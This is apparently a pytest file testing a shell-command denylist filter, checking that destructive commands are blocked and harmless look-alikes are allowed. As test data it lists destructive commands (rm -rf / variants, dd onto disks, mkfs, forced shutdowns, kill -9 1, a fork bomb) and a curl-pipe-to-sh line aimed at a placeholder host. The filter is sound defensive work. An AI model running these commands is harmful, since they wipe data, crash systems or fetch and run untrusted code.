import pytest

from huginn_core.errors import ConfigError, DisallowedCommand
from huginn_core.tasks.safety import CommandFilter, normalize_command


@pytest.mark.parametrize(
    "line",
    [
        "rm -rf /",
        "sudo rm -rf /*",
        "rm -rf \"/\"",
        "rm -rf '/'",
        "rm -rf //",
        "rm -rf /.",
        "rm -rf /tmp/..",
        "rm -r --no-preserve-root /",
        "dd if=/dev/zero of=/dev/sda bs=1M",
        "cat image > /dev/disk2",
        "mkfs.ext4 /dev/sdb1",
        "diskutil eraseDisk JHFS+ Blank disk2",
        "shutdown -h now",
        "ls; reboot",
        "/sbin/halt",
        "systemctl poweroff",
        "init 0",
        "kill -9 1",
        "kill -9 -1",
        "killall -9 Dock",
        ":(){ :|:& };:",
    ],
)
def test_denied(line):
    f = CommandFilter()
    assert f.match(line) is not None
    with pytest.raises(DisallowedCommand, match="not allowed for security reasons"):
        f.check(line)


@pytest.mark.parametrize(
    "line",
    [
        "rm -rf /tmp/x",
        "rm -rf /tmp//cache/.",
        "rm /tmp/file",
        "echo reboot",
        "grep shutdown /var/log/system.log",
        "dd if=/dev/zero of=/dev/null count=1",
        "killall Dock",
        "kill 123",
        "kill -TERM 4242",
        "ls -la /",
    ],
)
def test_allowed(line):
    assert CommandFilter().match(line) is None


def test_extra_patterns_extend_default():
    f = CommandFilter(extra_patterns=[r"\bcurl\b.*\|\s*sh\b"])
    assert f.match("curl https://x.test/i.sh | sh") == "configured denylist"
    assert f.match("rm -rf /") is not None


def test_invalid_extra_pattern():
    with pytest.raises(ConfigError):
        CommandFilter(extra_patterns=["("])


def test_normalize_command():
    assert normalize_command('rm -rf "//"') == "rm -rf /"
    assert normalize_command("ls /var//log/./") == "ls /var/log"
    # Unbalanced quotes are matched as written
    assert normalize_command('echo "oops') == 'echo "oops'
